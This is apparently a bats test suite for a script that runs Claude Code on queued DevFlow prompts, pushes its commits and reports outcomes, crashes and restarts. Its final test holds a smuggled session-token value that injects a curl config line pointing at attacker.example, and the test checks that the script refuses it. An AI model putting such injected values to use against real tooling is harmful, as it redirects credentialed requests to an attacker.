#!/usr/bin/env bats
# ai-workflow.sh on the host: a bare git remote, the fake DevFlow API and the stub claude.

bats_require_minimum_version 1.5.0
load helpers

setup() {
  setup_workspace
  start_api
  clone_workspace
}

teardown() {
  teardown_workspace
}

run_agent() {
  run "$CONTAINER_DIR/ai-workflow.sh"
}

@test "a prompt is run, committed, pushed to devflow/<session> and reported with turns and cost" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa $'write hello.txt hello from the agent'
  MAX_ITERATIONS=1 run_agent
  [ "$status" -eq 0 ]

  [ "$(remote_file "devflow/$SESSION_ID" hello.txt)" = "hello from the agent" ]
  sha=$(git --git-dir="$REMOTE" rev-parse "devflow/$SESSION_ID")
  [ "$(git --git-dir="$REMOTE" log -1 --format='%an <%ae>' "devflow/$SESSION_ID")" = "Ada Lovelace <ada@example.com>" ]
  git --git-dir="$REMOTE" log -1 --format=%B "devflow/$SESSION_ID" | grep -q "DevFlow-Prompt: p-aaaaaaaaaaaaaaaaaaaa"
  [ "$(git --git-dir="$REMOTE" rev-parse main)" = "$(git -C "$REPO_DIR" rev-parse main)" ]

  result=$(results_for p-aaaaaaaaaaaaaaaaaaaa)
  [ "$(wc -l <<<"$result")" -eq 1 ]
  [ "$(jq -r .body.status <<<"$result")" = SUCCEEDED ]
  [ "$(jq -r .body.commit <<<"$result")" = "$sha" ]
  [ "$(jq -r .body.branch <<<"$result")" = "devflow/$SESSION_ID" ]
  [ "$(jq -r .body.turns <<<"$result")" = 2 ]
  [ "$(jq -r .body.costUsd <<<"$result")" = "$(jq -r 'select(.type == "result") | .total_cost_usd' "$FIXTURES/claude-stream/success.jsonl")" ]
  [ "$(jq -r .body.summary <<<"$result")" = "Done: write hello.txt hello from the agent" ]
  [ "$(jq -r .auth <<<"$result")" = "Bearer session-token" ]

  types=$(requests '.path | test("/prompts/p-aaaaaaaaaaaaaaaaaaaa/events$")' | jq -r '.body.events[].type' | sort -u | tr '\n' ' ')
  [ "$types" = "assistant result system tool_result tool_use " ]
  [ -n "$(requests '.path | endswith("/heartbeat")' | jq -r 'select(.body.state == "working")')" ]

  invocation=$(head -n 1 "$STUB_CLAUDE_LOG")
  [ "$(jq -r .sawSessionToken <<<"$invocation")" = false ]
  [ "$(jq -r .sawEditorPassword <<<"$invocation")" = false ]
  [ "$(jq -r .cwd <<<"$invocation")" = "$REPO_DIR" ]
  args=$(jq -r '.args | join(" ")' <<<"$invocation")
  [ "$args" = "-p --output-format stream-json --verbose --model sonnet --max-turns 50 --allowedTools Bash,Read,Edit,Write,NotebookEdit --permission-mode acceptEdits" ]
  # The CLI's own retries are bounded.
  [ "$(jq -r .maxRetries <<<"$invocation")" = 6 ]
}

@test "a repository's .devflow/egress.txt is reported once, in the first prompt's events, as the stage decided" {
  mkdir -p "$REPO_DIR/.devflow"
  printf '# our mirror\n*.mirror.example\npypi.corp.example\n' >"$REPO_DIR/.devflow/egress.txt"
  queue_prompt p-eeeeeeeeeeeeeeeeeeee 'say hi'
  queue_prompt p-ffffffffffffffffffff 'say hi again'
  DEVFLOW_REPOSITORY_EGRESS=ignored DEVFLOW_REPOSITORY_EGRESS_NOTE='.devflow/egress.txt is ignored: on AWS the list is the stage'"'"'s.' MAX_ITERATIONS=2 run_agent
  [ "$status" -eq 0 ]
  first=$(requests '.path | test("/prompts/p-eeeeeeeeeeeeeeeeeeee/events$")' | jq -c '.body.events[] | select(.type == "egress")')
  [ "$(wc -l <<<"$first")" -eq 1 ]
  [ "$(jq -r .data.verdict <<<"$first")" = ignored ]
  [ "$(jq -c .data.names <<<"$first")" = '["*.mirror.example","pypi.corp.example"]' ]
  [ "$(jq -r .text <<<"$first")" = ".devflow/egress.txt is ignored: on AWS the list is the stage's. Names: *.mirror.example, pypi.corp.example." ]
  [ -n "$(results_for p-ffffffffffffffffffff)" ]
  [ -z "$(requests '.path | test("/prompts/p-ffffffffffffffffffff/events$")' | jq -c '.body.events[] | select(.type == "egress")')" ]
}

@test "no egress event without the file or without a verdict from the platform" {
  queue_prompt p-gggggggggggggggggggg 'say hi'
  DEVFLOW_REPOSITORY_EGRESS=honoured MAX_ITERATIONS=1 run_agent
  [ "$status" -eq 0 ]
  [ -z "$(requests '.path | endswith("/events")' | jq -c '.body.events[] | select(.type == "egress")')" ]
}

@test "the model, the allowed tools and a per-prompt budget can be set" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa 'explain the README'
  CLAUDE_MODEL=opus CLAUDE_ALLOWED_TOOLS=Read,Bash CLAUDE_MAX_BUDGET_USD=2.5 CLAUDE_CODE_MAX_RETRIES=1 MAX_ITERATIONS=1 run_agent
  [ "$status" -eq 0 ]
  invocation=$(head -n 1 "$STUB_CLAUDE_LOG")
  [ "$(jq -r '.args | join(" ")' <<<"$invocation")" = "-p --output-format stream-json --verbose --model opus --max-turns 50 --allowedTools Read,Bash --permission-mode acceptEdits --max-budget-usd 2.5" ]
  [ "$(jq -r .maxRetries <<<"$invocation")" = 1 ]
}

@test "later prompts resume the same Claude session and may name their own branch" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa $'write one.txt first'
  queue_prompt p-bbbbbbbbbbbbbbbbbbbb $'write two.txt second' feature/two
  MAX_ITERATIONS=2 run_agent
  [ "$status" -eq 0 ]
  first_session=$(jq -r 'select(.type == "system") | .session_id' "$STATE_DIR/prompts/p-aaaaaaaaaaaaaaaaaaaa/stream.jsonl")
  [ -n "$first_session" ]
  [ "$(sed -n 2p "$STUB_CLAUDE_LOG" | jq -r '.args | index("--resume") as $i | .[$i + 1]')" = "$first_session" ]
  [ "$(remote_file feature/two two.txt)" = second ]
  [ "$(jq -r .body.branch <<<"$(results_for p-bbbbbbbbbbbbbbbbbbbb)")" = feature/two ]
}

@test "a fresh clone continues the session's branch already on the remote" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa $'write one.txt first'
  MAX_ITERATIONS=1 run_agent
  [ "$status" -eq 0 ]
  # A new task: a fresh clone of the base branch and fresh state.
  rm -rf "$REPO_DIR" "$STATE_DIR"
  clone_workspace
  queue_prompt p-bbbbbbbbbbbbbbbbbbbb $'write two.txt second'
  MAX_ITERATIONS=1 run_agent
  [ "$status" -eq 0 ]
  [ "$(results_for p-bbbbbbbbbbbbbbbbbbbb | jq -r .body.status)" = SUCCEEDED ]
  [ "$(remote_file "devflow/$SESSION_ID" one.txt)" = first ]
  [ "$(remote_file "devflow/$SESSION_ID" two.txt)" = second ]
}

@test "a run that changes nothing makes no commit and says so" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa 'explain the README'
  MAX_ITERATIONS=1 run_agent
  [ "$status" -eq 0 ]
  result=$(results_for p-aaaaaaaaaaaaaaaaaaaa)
  [ "$(jq -r .body.status <<<"$result")" = SUCCEEDED ]
  [[ "$(jq -r .body.summary <<<"$result")" == "No changes: "* ]]
  [ "$(jq -r '.body | has("commit") or has("branch")' <<<"$result")" = false ]
  run ! git --git-dir="$REMOTE" rev-parse --verify --quiet "devflow/$SESSION_ID"
}

@test "claude failing is reported FAILED with its message" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa $'fail API Error: 529 the model is overloaded'
  MAX_ITERATIONS=1 run_agent
  [ "$status" -eq 0 ]
  result=$(results_for p-aaaaaaaaaaaaaaaaaaaa)
  [ "$(jq -r .body.status <<<"$result")" = FAILED ]
  [ "$(jq -r .body.error.code <<<"$result")" = CLAUDE_FAILED ]
  [[ "$(jq -r .body.error.message <<<"$result")" == "Claude Code exited with status 1: API Error: 529 the model is overloaded" ]]
}

@test "a run that hits the turn limit is FAILED with its turns, cost and the CLI's own words" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa $'write part.txt half done\nmax-turns'
  MAX_ITERATIONS=1 run_agent
  result=$(results_for p-aaaaaaaaaaaaaaaaaaaa)
  [ "$(jq -r .body.status <<<"$result")" = FAILED ]
  [ "$(jq -r .body.error.code <<<"$result")" = AGENT_MAX_TURNS ]
  [[ "$(jq -r .body.error.message <<<"$result")" == "Reached maximum number of turns (1). Raise CLAUDE_MAX_TURNS"* ]]
  [ "$(jq -r .body.costUsd <<<"$result")" = "$(jq -r 'select(.type == "result") | .total_cost_usd' "$FIXTURES/claude-stream/max-turns.jsonl")" ]
  [ "$(jq -r .body.turns <<<"$result")" = 2 ]
  # What it did get done is still pushed.
  [ "$(remote_file "devflow/$SESSION_ID" part.txt)" = "half done" ]
}

@test "each API failure the CLI reports ends the prompt with its outcome code and the CLI's message" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaa1 'replay api-400'
  queue_prompt p-aaaaaaaaaaaaaaaaaaa2 'replay api-429'
  queue_prompt p-aaaaaaaaaaaaaaaaaaa3 'replay api-529'
  queue_prompt p-aaaaaaaaaaaaaaaaaaa4 'replay network'
  queue_prompt p-aaaaaaaaaaaaaaaaaaa5 'replay budget'
  MAX_ITERATIONS=5 run_agent
  [ "$status" -eq 0 ]
  outcome() { results_for "$1" | jq -r '[.body.status, .body.error.code] | join(" ")'; }
  message() { results_for "$1" | jq -r .body.error.message; }
  [ "$(outcome p-aaaaaaaaaaaaaaaaaaa1)" = "FAILED AGENT_API_ERROR" ]
  [ "$(message p-aaaaaaaaaaaaaaaaaaa1)" = "HTTP 400 invalid_request_error: API Error: 400 messages.0.content: Input should be a valid list." ]
  [ "$(outcome p-aaaaaaaaaaaaaaaaaaa2)" = "FAILED AGENT_OVERLOADED" ]
  [[ "$(message p-aaaaaaaaaaaaaaaaaaa2)" == "HTTP 429 after 2 retries: API Error: Request rejected (429)"* ]]
  [ "$(outcome p-aaaaaaaaaaaaaaaaaaa3)" = "FAILED AGENT_OVERLOADED" ]
  [[ "$(message p-aaaaaaaaaaaaaaaaaaa3)" == "HTTP 529 after 2 retries: API Error: 529 Overloaded."* ]]
  [ "$(outcome p-aaaaaaaaaaaaaaaaaaa4)" = "FAILED AGENT_NETWORK" ]
  [[ "$(message p-aaaaaaaaaaaaaaaaaaa4)" == "API Error: Connection refused"*"check its network egress and ANTHROPIC_BASE_URL." ]]
  [ "$(outcome p-aaaaaaaaaaaaaaaaaaa5)" = "FAILED AGENT_BUDGET_EXCEEDED" ]
  [[ "$(message p-aaaaaaaaaaaaaaaaaaa5)" == "Reached maximum budget (\$0.001)."* ]]
  # The summary is the CLI's own message.
  [ "$(results_for p-aaaaaaaaaaaaaaaaaaa1 | jq -r .body.summary)" = "API Error: 400 messages.0.content: Input should be a valid list" ]
}

@test "a refused key fails the prompt at the CLI's first retry, and no further prompt is claimed" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaa1 'replay api-401'
  queue_prompt p-aaaaaaaaaaaaaaaaaaa2 'write later.txt never run'
  start=$SECONDS
  MAX_ITERATIONS=5 run_agent
  [ "$status" -eq 3 ]
  # The recorded run retries twice (0.55 s, then 1.1 s) before its result: the loop stops it at the first.
  # Bounded far below the 3 minutes of retries a refused key used to take, with room for a loaded machine.
  [ $((SECONDS - start)) -lt 25 ]
  result=$(results_for p-aaaaaaaaaaaaaaaaaaa1)
  [ "$(jq -r .body.status <<<"$result")" = FAILED ]
  [ "$(jq -r .body.error.code <<<"$result")" = AGENT_AUTH_FAILED ]
  [[ "$(jq -r .body.error.message <<<"$result")" == *"HTTP 401"*"devflow secrets set claude-api-key"*"this session takes no further prompts."* ]]
  [ "$(jq -r 'select(.type == "result")' "$STATE_DIR/prompts/p-aaaaaaaaaaaaaaaaaaa1/stream.jsonl")" = "" ]
  [ -z "$(results_for p-aaaaaaaaaaaaaaaaaaa2)" ]
  [ -f "$API_STATE/queue/0002-p-aaaaaaaaaaaaaaaaaaa2.json" ]
  [[ "$output" == *"claiming no further prompts"* ]]
}

@test "a 403, which the CLI does not retry, is AGENT_AUTH_FAILED too" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaa1 'replay api-403'
  MAX_ITERATIONS=2 run_agent
  [ "$status" -eq 3 ]
  result=$(results_for p-aaaaaaaaaaaaaaaaaaa1)
  [ "$(jq -r .body.error.code <<<"$result")" = AGENT_AUTH_FAILED ]
  [[ "$(jq -r .body.error.message <<<"$result")" == "HTTP 403: Failed to authenticate. API Error: 403 Your API key does not have permission"* ]]
}

@test "the API being unreachable, then failing, is retried until it recovers" {
  port=$(cat "$API_STATE/port")
  stop_api
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa $'write hello.txt hi'
  MAX_ITERATIONS=150 "$CONTAINER_DIR/ai-workflow.sh" 2>"$TEST_ROOT/agent.log" 3>&- &
  agent=$!
  sleep 0.6
  echo 2 >"$API_STATE/fail"
  FAKE_API_PORT=$port start_api
  wait "$agent"
  grep -q "the DevFlow API is unreachable" "$TEST_ROOT/agent.log"
  grep -q "HTTP 503 (injected failure)" "$TEST_ROOT/agent.log"
  [ "$(results_for p-aaaaaaaaaaaaaaaaaaaa | jq -r .body.status)" = SUCCEEDED ]
  [ "$(remote_file "devflow/$SESSION_ID" hello.txt)" = hi ]
}

@test "a restart neither runs nor reports a prompt twice" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa $'write wip.txt started\nsleep 30'
  MAX_ITERATIONS=1 setsid "$CONTAINER_DIR/ai-workflow.sh" 2>"$TEST_ROOT/agent1.log" 3>&- &
  agent=$!
  for _ in $(seq 1 300); do [ -f "$REPO_DIR/wip.txt" ] && break; sleep 0.05; done
  [ -f "$REPO_DIR/wip.txt" ]
  # A crash: the loop and Claude Code die without reporting anything.
  kill -KILL -- "-$agent"
  wait "$agent" || true
  [ -z "$(results_for p-aaaaaaaaaaaaaaaaaaaa)" ]

  # The lease expires and the API hands the same prompt out again.
  mv "$API_STATE"/claimed/*.json "$API_STATE/queue/"
  MAX_ITERATIONS=2 run_agent
  [ "$status" -eq 0 ]
  [ "$(wc -l <"$STUB_CLAUDE_LOG")" -eq 1 ]
  result=$(results_for p-aaaaaaaaaaaaaaaaaaaa)
  [ "$(wc -l <<<"$result")" -eq 1 ]
  [ "$(jq -r .body.status <<<"$result")" = FAILED ]
  [ "$(jq -r .body.error.code <<<"$result")" = INTERRUPTED ]
  [ "$(remote_file "devflow/$SESSION_ID" wip.txt)" = started ]

  # Handed out yet again after it was reported: ignored.
  mv "$API_STATE"/claimed/*.json "$API_STATE/queue/"
  MAX_ITERATIONS=1 run_agent
  [ "$status" -eq 0 ]
  [ "$(wc -l <"$STUB_CLAUDE_LOG")" -eq 1 ]
  [ "$(results_for p-aaaaaaaaaaaaaaaaaaaa | wc -l)" -eq 1 ]
  [[ "$output" == *"already reported"* ]]
}

@test "a result the API could not take before a stop is sent when the agent starts again" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa $'write hello.txt hi'
  touch "$API_STATE/fail-results"
  STOP_RESULT_ATTEMPTS=1 MAX_ITERATIONS=1 "$CONTAINER_DIR/ai-workflow.sh" 2>"$TEST_ROOT/agent1.log" 3>&- &
  agent=$!
  for _ in $(seq 1 300); do grep -q "result not delivered" "$TEST_ROOT/agent1.log" && break; sleep 0.05; done
  kill -TERM "$agent"
  wait "$agent"
  grep -q "it is kept in" "$TEST_ROOT/agent1.log"
  [ -f "$STATE_DIR/prompts/p-aaaaaaaaaaaaaaaaaaaa/result.json" ]
  [ ! -f "$STATE_DIR/prompts/p-aaaaaaaaaaaaaaaaaaaa/reported" ]

  rm "$API_STATE/fail-results"
  MAX_ITERATIONS=1 run_agent
  [ "$status" -eq 0 ]
  [ "$(wc -l <"$STUB_CLAUDE_LOG")" -eq 1 ]
  [ -f "$STATE_DIR/prompts/p-aaaaaaaaaaaaaaaaaaaa/reported" ]
  accepted=$(results_for p-aaaaaaaaaaaaaaaaaaaa | tail -n 1)
  [ "$(jq -r .body.status <<<"$accepted")" = SUCCEEDED ]
  [ "$(jq -r .body.commit <<<"$accepted")" = "$(git --git-dir="$REMOTE" rev-parse "devflow/$SESSION_ID")" ]
}

@test "TERM during a prompt stops Claude Code, pushes what it changed and reports STOPPED" {
  queue_prompt p-aaaaaaaaaaaaaaaaaaaa $'write partial.txt work in progress\nsleep 30'
  MAX_ITERATIONS=5 "$CONTAINER_DIR/ai-workflow.sh" 2>"$TEST_ROOT/agent.log" 3>&- &
  agent=$!
  for _ in $(seq 1 300); do [ -f "$REPO_DIR/partial.txt" ] && break; sleep 0.05; done
  start=$SECONDS
  kill -TERM "$agent"
  wait "$agent"
  # The prompt sleeps 30 s: a stop that waited for it would take longer than this bound.
  [ $((SECONDS - start)) -lt 25 ]
  result=$(results_for p-aaaaaaaaaaaaaaaaaaaa)
  [ "$(jq -r .body.status <<<"$result")" = FAILED ]
  [ "$(jq -r .body.error.code <<<"$result")" = STOPPED ]
  [ "$(jq -r .body.commit <<<"$result")" = "$(git --git-dir="$REMOTE" rev-parse "devflow/$SESSION_ID")" ]
  [ "$(remote_file "devflow/$SESSION_ID" partial.txt)" = "work in progress" ]
  grep -q "stopped on request" "$TEST_ROOT/agent.log"
}

@test "a 401 from the API ends the loop cleanly" {
  touch "$API_STATE/revoked"
  run timeout 10 "$CONTAINER_DIR/ai-workflow.sh"
  [ "$status" -eq 0 ]
  [[ "$output" == *"the session is over"* ]]
}

@test "a 409 SESSION_ENDED (the session was stopped) ends the loop cleanly, without retrying" {
  touch "$API_STATE/gone"
  run timeout 10 "$CONTAINER_DIR/ai-workflow.sh"
  [ "$status" -eq 0 ]
  [[ "$output" == *"HTTP 409"*"the session is over"* ]]
  [[ "$output" != *"retrying"* ]]
  # The first answer that says so ends it: no request after it.
  [ "$(requests true | wc -l)" -eq 1 ]
}

@test "missing variables are each named, with exit 2" {
  unset SESSION_ID DEVFLOW_SESSION_TOKEN
  run "$CONTAINER_DIR/ai-workflow.sh"
  [ "$status" -eq 2 ]
  [[ "$output" == *"SESSION_ID is not set"* ]]
  [[ "$output" == *"DEVFLOW_SESSION_TOKEN is not set"* ]]
  [[ "$output" != *"REPO is not set"* ]]
}

@test "a session token that could inject curl options is refused" {
  export DEVFLOW_SESSION_TOKEN=$'abc"\nurl = "http://attacker.example'
  run "$CONTAINER_DIR/ai-workflow.sh"
  [ "$status" -eq 2 ]
  [[ "$output" == *"DEVFLOW_SESSION_TOKEN has characters"* ]]
  [ ! -f "$API_STATE/requests.jsonl" ]
}
